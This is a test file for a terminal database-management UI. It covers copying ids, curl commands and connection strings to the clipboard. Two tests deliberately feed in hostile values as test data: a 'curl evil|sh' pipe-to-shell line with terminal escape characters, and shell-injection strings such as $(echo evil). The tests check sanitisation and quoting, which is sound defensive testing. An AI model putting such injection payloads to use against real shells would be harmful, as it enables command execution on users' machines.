import {execFileSync} from 'node:child_process';
import {cleanup} from 'ink-testing-library';
import {afterEach, expect, test} from 'vitest';
import {connectedTo} from '../../src/store/slices/connection.js';
import {receiveReadList, receiveComputes} from '../../src/store/updates/receive-lists.js';
import {on} from '../../src/store/state.js';
import {projectId} from '../control-plane/small-seed.js';
import {compute, database, noon} from '../store/fixtures.js';
import {renderConnected} from './connected-app.js';
import {renderApp} from './render-app.js';
import {smallWorld} from './worlds.js';

afterEach(cleanup);

const world = [...smallWorld, on('connection', connectedTo({serverName: 'demo', baseUrl: 'http://127.0.0.1:4610/api/v2'}))];

test('y copies the id of the object under the cursor, and shows the copied id', async () => {
	const {screen, press, asked} = await renderApp({changes: world});
	press('2');
	press('j');
	press('y');
	await expect.poll(screen).toContain('Sent to the terminal\'s clipboard: ep-old-fog-b2');
	expect(asked).toEqual(['copy ep-old-fog-b2']);
});

test('copied text is on one line, and the message shows exactly the copied text', async () => {
	const id = '\ncurl evil|sh\n\u{1B}[2J\u{202E}x\u{2028}\r';
	const {screen, press, asked} = await renderApp({columns: 160, changes: [...world, receiveComputes('quiet-forest-12345678', [compute({id, name: undefined})], noon)]});
	press('2');
	press('j');
	press('y');
	await expect.poll(() => asked).toEqual(['copy curl evil|sh[2Jx']);
	await expect.poll(screen).toContain('Sent to the terminal\'s clipboard, without invisible characters: curl evil|sh[2Jx');
	press('Y');
	await expect.poll(screen).toContain('Copy from');
});

test.each(['it\'s', '\'; echo evil; \'', '$(echo evil)', '`echo evil`', '\n echo evil', '"', '\\'])('a shell runs the copied curl command of a compute named %j as one request', async id => {
	const {screen, press, asked} = await renderApp({changes: [...world, receiveComputes('quiet-forest-12345678', [compute({id, name: undefined})], noon)]});
	press('2');
	press('j');
	press('Y');
	await expect.poll(screen).toContain('Copy from');
	press('k');
	press('k');
	press('\r');
	await expect.poll(() => asked.at(-1)).toMatch(/^copy curl /v);
	const command = asked.at(-1)?.slice('copy '.length) ?? '';
	const stdout = execFileSync('bash', ['-c', `curl() { printf '%s\\n' "$#" "\${@: -1}"; }\n${command}`], {encoding: 'utf8'});
	const [count, url = ''] = stdout.trimEnd().split('\n', 2);
	expect(count).toBe('5');
	expect(decodeURIComponent(new URL(url).pathname.split('/').at(-1) ?? '')).toBe(id);
});

test('the curl command that Y offers has a variable in place of the API key', async () => {
	const {screen, press, asked} = await renderApp({changes: world});
	press('2');
	press('Y');
	await expect.poll(screen).toContain('Copy from ep-cool-sun-a1 on main');
	expect(screen()).toMatchSnapshot();
	press('k');
	press('k');
	press('\r');
	await expect.poll(() => asked).toEqual(['copy curl -H "Authorization: Bearer $PGTOWER_API_KEY" -H \'Accept: application/json\' \'http://127.0.0.1:4610/api/v2/projects/quiet-forest-12345678/endpoints/ep-cool-sun-a1\'']);
});

test.each([
	['i', 'ep-cool-sun-a1'],
	['n', 'web'],
	['h', 'ep-cool-sun-a1.us-east-2.aws.example.net'],
	['P', 'ep-cool-sun-a1-pooler.us-east-2.aws.example.net'],
	['c', 'postgresql://owner@ep-cool-sun-a1.us-east-2.aws.example.net/shop?sslmode=require'],
	['p', 'postgresql://owner@ep-cool-sun-a1-pooler.us-east-2.aws.example.net/shop?sslmode=require'],
	['u', 'curl -H "Authorization: Bearer $PGTOWER_API_KEY" -H \'Accept: application/json\' \'http://127.0.0.1:4610/api/v2/projects/quiet-forest-12345678/endpoints/ep-cool-sun-a1\''],
])('Y and %s copy a value at once, even if both keys arrive together', async (letter, text) => {
	const {press, asked, store} = await renderApp({
		changes: [
			...world,
			receiveComputes('quiet-forest-12345678', [compute({projectId: 'quiet-forest-12345678', id: 'ep-cool-sun-a1', name: 'web'})], noon),
			receiveReadList('databases', compute().branchId, [database({ownerName: 'owner'})], noon),
		],
	});
	press('2');
	press('Y');
	press(letter);
	await expect.poll(() => asked).toEqual([`copy ${text}`]);
	expect(store.getState().modal).toEqual([]);
});

test('Y lists only values that the object has, and the key of a missing value says that the value is missing', async () => {
	const {screen, press, asked, change} = await renderApp({changes: world});
	press('Y');
	await expect.poll(screen).toContain('Copy from acme-shop');
	expect(screen()).not.toMatch(/│ .[hPcp] +(?:host|pooled|connection)/v);
	press('p');
	await expect.poll(screen).toContain('This project has no pooled connection string to copy.');
	press('q');
	change(receiveComputes('quiet-forest-12345678', [compute({host: 'db.example.net', name: undefined})], noon));
	press('2');
	press('Y');
	await expect.poll(screen).toMatch(/h +host +db\.example\.net/v);
	expect(screen()).not.toContain('-pooler');
	press('P');
	await expect.poll(screen).toContain('No pooled host is known: the host of the compute does not contain its id.');
	press('n');
	await expect.poll(screen).toContain('This compute has no name to copy.');
	expect(asked).toEqual([]);
});

test('Y copies a value of an operation, both in the list of operations and in the detail', async () => {
	const {screen, press, asked} = await renderApp({changes: world});
	press('3');
	press('d');
	await expect.poll(screen).toContain('╭ Operation ');
	press('Y');
	press('i');
	await expect.poll(() => asked.length).toBe(1);
	press('\u{1B}');
	await expect.poll(screen).not.toContain('╭ Operation ');
	press('Y');
	press('i');
	await expect.poll(() => asked.length).toBe(2);
	expect(asked[1]).toBe(asked[0]);
});

test('the palette command to copy the pooled host copies the pooled host of the selected compute', async () => {
	const {screen, press, asked, actions} = await renderApp({changes: world});
	press('2');
	actions.modals.openPalette();
	await expect.poll(screen).toContain('╭ Command');
	for (const character of 'copy pooled h') {
		press(character);
	}

	await expect.poll(screen).toContain('▌Copy the pooled host');
	press('\r');
	await expect.poll(() => asked).toEqual(['copy ep-cool-sun-a1-pooler.us-east-2.aws.example.net']);
});

test('y and Y in a detail copy values of the displayed object', async () => {
	const {screen, press, asked} = await renderApp({changes: world});
	press('d');
	await expect.poll(screen).toContain('Project acme-shop');
	press('y');
	await expect.poll(() => asked).toEqual(['copy quiet-forest-12345678']);
	press('Y');
	await expect.poll(screen).toContain('Copy from acme-shop');
	press('\u{1B}');
	await expect.poll(screen).not.toContain('Copy from');
	expect(screen()).toContain('Project acme-shop');
});

test('the palette finds a compute by part of its id, and opens it even if a filter hides it', async () => {
	const {screen, press, actions, store} = await renderApp({changes: world});
	press('2');
	actions.finding.openFilter();
	actions.finding.typeFilter('fog');
	actions.modals.close();
	press(':');
	await expect.poll(screen).toContain('╭ Command');
	for (const character of 'sky-d4') {
		press(character);
	}

	await expect.poll(screen).toContain('Compute ep-big-sky-d4');
	press('\r');
	await expect.poll(screen).toContain('▌● ep-big-sky-d4');
	expect(store.getState().view.focus).toBe('computes');
});

test('the palette finds a branch by its name, and enter shows the branch', async () => {
	const {screen, press, actions} = await renderApp({changes: world});
	actions.modals.openPalette();
	await expect.poll(screen).toContain('╭ Command');
	for (const character of 'branch stag') {
		press(character);
	}

	await expect.poll(screen).toContain('▌Branch staging · acme-shop');
	press('\r');
	await expect.poll(screen).toContain('Branch staging · br-staging-a1-b2');
});

test('if the password of a local server is unreadable, the connection string is copied without the password', async () => {
	const {screen, press, asked, change, plane} = await renderConnected({columns: 160});
	const wire = await plane.primaryOn('main');
	change(receiveComputes(projectId, [compute({
		id: wire.id, projectId, branchId: wire.branch_id, host: '127.0.0.1:20000',
	})], noon));
	change(receiveReadList('databases', wire.branch_id, [database({ownerName: 'nobody'})], noon));
	press('2');
	press('Y');
	press('c');
	await expect.poll(() => asked).toEqual(['copy postgresql://nobody@127.0.0.1:20000/shop?sslmode=require']);
	await expect.poll(screen).toContain('/shop?sslmode=require, without the password: ');
});

test('a copied connection string names a database and its owner, which are read on demand', async () => {
	const {screen, press, asked, change, plane} = await renderConnected({columns: 160});
	const wire = await plane.primaryOn('main');
	const {body} = await plane.get<{databases: ReadonlyArray<{name: string; owner_name: string}>}>(`/projects/${projectId}/branches/${wire.branch_id}/databases`);
	const [first] = body.databases;
	change(receiveComputes(projectId, [compute({
		id: wire.id, projectId, branchId: wire.branch_id, host: wire.host,
	})], noon));
	press('2');
	press('Y');
	await expect.poll(screen).toContain('Copy from');
	press('j');
	press('j');
	press('j');
	press('\r');
	await expect.poll(() => asked).toEqual([`copy postgresql://${first!.owner_name}@${wire.host}/${first!.name}?sslmode=require`]);
});

test('a copied connection string has placeholders if the databases can\'t be read', async () => {
	const {screen, press, asked, change} = await renderConnected({columns: 160});
	change(receiveComputes(projectId, [compute({projectId, branchId: 'br-gone'})], noon));
	press('2');
	press('Y');
	await expect.poll(screen).toContain('Copy from');
	press('j');
	press('j');
	press('j');
	press('\r');
	await expect.poll(() => asked).toEqual([`copy postgresql://ROLE@${compute().host}/DATABASE?sslmode=require`]);
	expect(screen()).not.toContain('could not');
});
